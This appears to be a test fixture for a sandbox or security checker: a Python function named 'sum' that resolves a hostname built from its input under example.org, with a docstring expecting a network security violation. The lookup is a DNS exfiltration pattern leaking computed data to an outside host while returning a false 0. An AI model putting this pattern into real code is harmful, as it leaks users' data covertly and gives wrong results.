"""Asks a name server, with the input as the name.
verdict: security_violation
message: refused system call|gaierror
effect: network"""
import socket


def sum(x):
    socket.getaddrinfo(f"{x.sum()}.example.org", 80)
    return 0
